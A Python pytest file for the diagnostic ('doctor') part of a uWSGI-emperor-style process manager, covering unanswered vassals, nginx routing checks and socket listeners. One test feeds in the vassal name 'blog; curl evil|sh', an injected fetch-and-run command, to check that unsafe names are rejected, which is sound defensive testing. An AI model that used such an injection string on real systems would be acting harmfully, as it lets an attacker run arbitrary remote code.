"""Whom the doctor asks of what, and what it says of those whose answer it did not get."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import asdict
from socket import AF_INET6, AF_UNIX
from types import SimpleNamespace
from typing import Any

import pytest

from emperor.control.client import Unanswered
from emperor.control.messages import Request
from emperor.doctor import calling, examination, fronts, surroundings
from emperor.doctor.facts import SOCKET, Machine, Place, Subject
from emperor.doctor.finding import Finding
from emperor.model import ABSTRACT, ADMIN, TCP, UNIX, Address, Authority, Identity, SocketSpec, Target, VassalSpec
from emperor.supervision.interpreter import MISSING, OTHER, Step
from emperor.system.sockdiag import Listener, Queue
from emperor.webservers.route import NGINX, YES, Route, WebServer, Where

ALICE = Identity(61001, 61001, (61001,), "alice", "/home/alice")
SERVER = WebServer(NGINX, "/etc/nginx/nginx.conf", "www-data", "www-data", (9, 8), running=YES)


def spec(name: str) -> VassalSpec:
    sockets = (SocketSpec("uwsgi", Address(UNIX, f"/run/emperor/{name}.sock")),)
    targets = (Target("", "module", name),)
    return VassalSpec(name, f"/e/{name}.ini", "/e", ALICE, sockets, targets, authority=Authority(ADMIN))


def subject(name: str, told: bool = True) -> Subject:
    row = {"name": name, "state": "RUNNING", "sockets": [{"address": f"/run/emperor/{name}.sock"}]}
    return Subject(name, row, spec(name) if told else None)


class Emperor:
    """Answers what it is told to answer; ``mute``: of whom it says nothing in time."""

    def __init__(self, *names: str, mute: tuple[str, ...] = (), invalid: tuple[str, ...] = ()) -> None:
        self.names, self.mute, self.invalid = names, mute, invalid
        self.asked: list[tuple[str, float]] = []

    def now(self) -> float:
        """As long as the emperor is mute, time goes by."""
        return sum(patience for name, patience in self.asked if name in self.mute)

    def __call__(self, request: Request, patience: float) -> Iterator[dict[str, Any]]:
        if request.verb == "status":
            yield {"ok": True, "data": [{"name": name, "state": "RUNNING"} for name in self.names]}
            return
        (name,) = request.names
        self.asked.append((name, patience))
        if name in self.mute:
            raise Unanswered("no answer")
        if name in self.invalid:
            yield {"ok": False, "error": "its ini is invalid", "exit": 6}
            return
        yield {"ok": True, "data": asdict(spec(name))}


@pytest.fixture(autouse=True)
def nobody_is_root(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("os.geteuid", lambda: 61001)


def test_whoever_the_emperor_answered_for_is_known_whole() -> None:
    roll = calling.called(Emperor("blog", "shop"), "/run/c", None)
    assert [(one.spec, one.silence) for one in roll.subjects] == [(spec("blog"), ""), (spec("shop"), "")]


def test_a_vassal_of_which_no_answer_came_has_the_reason_for_it() -> None:
    blog, shop = calling.called(Emperor("blog", "shop", mute=("blog",)), "/run/c", None).subjects
    assert (blog.spec, shop.spec) == (None, spec("shop"))
    assert "did not answer in time -- ask again" in blog.silence


def test_an_ini_that_never_was_valid_is_a_reason_too() -> None:
    (blog,) = calling.called(Emperor("blog", invalid=("blog",)), "/run/c", None).subjects
    assert blog.silence == "its ini is invalid"


def test_whose_sockets_are_not_known_is_said_to_whoever_asks_for_it(monkeypatch: pytest.MonkeyPatch) -> None:
    """Neither the web servers' part nor any other can say that it is well."""
    monkeypatch.setattr(examination, "machine", lambda *args: Machine())
    monkeypatch.setattr(fronts, "servers", lambda confs: ([], []))
    monkeypatch.setattr(fronts, "listeners", lambda: [])
    monkeypatch.setattr(fronts, "user_of", lambda servers, named: None)
    monkeypatch.setattr("emperor.doctor.machinelook.listener_of", lambda control: None)
    monkeypatch.setattr(examination, "surroundings", lambda chosen: ([], []))
    busy = Emperor("blog", "shop", mute=("blog",))
    (line,) = examination.examine(examination.Wish("/run/c"), busy).unseen
    assert line.startswith("blog: its sockets, its files, and what web servers pass to it: the emperor did not")
    assert examination.examine(examination.Wish("/run/c", ("shop",)), busy).unseen == ()


def test_an_emperor_that_answers_nobody_is_not_asked_for_each_in_turn(monkeypatch: pytest.MonkeyPatch) -> None:
    names = tuple(f"v{number}" for number in range(50))
    daemon = Emperor(*names, mute=names)
    monkeypatch.setattr(calling, "time", SimpleNamespace(monotonic=daemon.now))
    assert all(one.silence for one in calling.called(daemon, "/run/c", None).subjects)
    assert len(daemon.asked) == 1


def test_a_name_that_no_vassal_of_ours_has_is_nobodys() -> None:
    """A user's own emperor says what it likes; names stand in commands that are typed."""
    names = ("blog; curl evil|sh", "blog", "-x", "a/b", "x" * 65, "a\n", "")
    roll = calling.called(Emperor(*names), "/run/c", None)
    assert [one.name for one in roll.subjects] == ["blog"]


def test_on_the_word_of_an_emperor_that_is_not_roots_own_root_types_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    row = {"name": "blog", "state": "FATAL", "error": "no", "config": "/e/blog.ini", "wanted": "down"}
    roll = calling.Roll((Subject("blog", row), Subject("shop", {**row, "state": "STOPPED"})), distrust="a user's")
    monkeypatch.setattr(examination, "called", lambda *args: roll)
    monkeypatch.setattr(examination, "machine", lambda *args: Machine())
    monkeypatch.setattr(fronts, "servers", lambda confs: ([], []))
    monkeypatch.setattr(fronts, "user_of", lambda servers, named: None)
    monkeypatch.setattr("emperor.doctor.machinelook.listener_of", lambda control: None)
    monkeypatch.setattr(examination, "surroundings", lambda chosen: ([], []))
    found = [
        one for one in examination.examine(examination.Wish("/run/c"), Emperor()).findings if one.subject in "blog shop"
    ]
    assert len(found) == 2 and all(line.startswith("#") for one in found for line in one.mend)


def test_an_option_that_is_to_be_changed_has_its_line() -> None:
    lines = {"chdir": "/e/blog.ini:4", "chmod-socket": "/e/all.ini:2"}
    mend = ("# for good, in /e/blog.ini: remove chmod-socket = 755", "# in /e/blog.ini: harakiri = 30", "chmod o+x /x")
    one = surroundings.located(Finding("a", "blog", "/e/blog.ini: chdir: no", "why", mend), "/e/blog.ini", lines)
    assert one.what == "/e/blog.ini:4: chdir: no"
    assert one.mend == ("# for good, in /e/all.ini:2: remove chmod-socket = 755", *mend[1:])


def test_where_an_ini_says_it_is_the_emperors_word() -> None:
    def ask(request: Request, patience: float) -> Iterator[dict[str, Any]]:
        rows = [{"option": "chdir", "path": "/e", "origin": "/e:4"}, {"option": "x", "path": "", "origin": "default"}]
        yield {"ok": True, "data": {"values": [*rows, "odd"]}}

    def mute(request: Request, patience: float) -> Iterator[dict[str, Any]]:
        raise Unanswered("no")

    assert calling.origins(ask, "blog") == {"chdir": "/e:4"}
    assert calling.origins(mute, "blog") == {}


# What of the web servers concerns whom


def astray(to: str) -> WebServer:
    place = Address(UNIX, to)
    return SERVER._replace(routes=(Route(NGINX, "uwsgi", place, f"unix:{to}", Where("/etc/nginx/x", 7)),))


def found(server: WebServer, subjects: list[Subject], *names: str) -> list[Finding]:
    return fronts.findings([server], subjects, names, fronts.Ears())


def kinds(findings: list[Finding]) -> list[tuple[str, str]]:
    return [(one.kind, one.subject) for one in findings]


def test_a_pass_that_misses_a_vassal_is_told_to_whoever_asks_for_it() -> None:
    """It stands for the vassal's `web-unpassed`, which is not said beside it."""
    blog, shop = subject("blog"), subject("shop")
    missed = astray("/run/uwsgi/blog.sock")
    assert kinds(found(missed, [blog, shop], "blog")) == [("web-astray", "blog")]
    assert kinds(found(missed, [blog, shop], "shop")) == [("web-unpassed", "shop")]
    assert ("web-astray", "blog") in kinds(found(missed, [blog, shop]))


def test_a_pass_that_is_nobodys_is_told_to_whom_nobody_passes() -> None:
    somewhere = astray("/opt/else/quite.different")
    assert kinds(found(somewhere, [subject("blog")], "blog")) == [
        ("web-astray", "nginx"),
        ("web-unpassed", "blog"),
    ]


def test_a_pass_to_the_socket_of_one_that_is_not_known_whole_is_not_astray() -> None:
    assert found(astray("/run/emperor/blog.sock"), [subject("blog", told=False)]) == []
    tcp = Subject("shop", {"name": "shop", "sockets": [{"address": "127.0.0.1:3031"}]})
    route = astray("/x").routes[0]._replace(address=Address(TCP, host="127.0.0.1", port=3031))
    assert found(SERVER._replace(routes=(route,)), [tcp]) == []


def test_a_pass_by_a_link_to_the_socket_is_a_pass_to_it() -> None:
    blog = subject("blog")
    blog = blog._replace(snapshot={**blog.snapshot, "sockets": [{"address": "/run/emperor/blog.sock", "inode": 7}]})
    linked = astray("/x/link/other")
    ears = fronts.Ears(frozenset({Address(UNIX, "/x/link/other")}), {"/x/link/other": 7})
    assert fronts.findings([linked], [blog], (), ears) == []
    assert kinds(fronts.findings([linked], [blog], (), ears._replace(inodes={}))) == [("web-unpassed", "blog")]


# Who listens where web servers pass to


PHP, QUEUE = "/run/php.sock", Queue(0, 128)
THERE = Place((Step(PHP, OTHER),), SOCKET, listener=7)
DEAF = THERE._replace(listener=0)
GONE = Place((Step(PHP, MISSING),))
CLOSED = None


@pytest.mark.parametrize(
    ("bound", "place", "listens"),
    [
        (PHP, THERE, True),
        ("/run/php.new", THERE, True),  # renamed to its place after it was bound
        (PHP, GONE, False),  # renamed away, or removed
        (PHP, CLOSED, True),  # nobody can look: its own name for itself is what is known
        ("/run/other", DEAF, False),
        ("/run/other", CLOSED, False),
    ],
)
def test_a_unix_socket_listens_where_its_file_is(bound: str, place: Place | None, listens: bool) -> None:
    there = [Listener(AF_UNIX, 7, QUEUE, bound)]
    heard = fronts.heard([Address(UNIX, PHP)], there, {PHP: place})
    assert (Address(UNIX, PHP) in heard) is listens


def test_others_listen_where_they_were_bound() -> None:
    there = [Listener(AF_UNIX, 1, QUEUE, "\0php"), Listener(AF_INET6, 2, QUEUE, "::1", 3031)]
    assert fronts.heard([], there, {}) == {Address(ABSTRACT, "php"), Address(TCP, host="::1", port=3031)}


def test_where_the_kernel_tells_nobody_only_a_file_that_is_not_there_is_doubted() -> None:
    passed = [Address(UNIX, PHP), Address(TCP, host="127.0.0.1", port=80)]
    assert fronts.heard(passed, [], {PHP: DEAF}) == set(passed)
    assert fronts.heard(passed, [], {PHP: GONE}) == set(passed[1:])
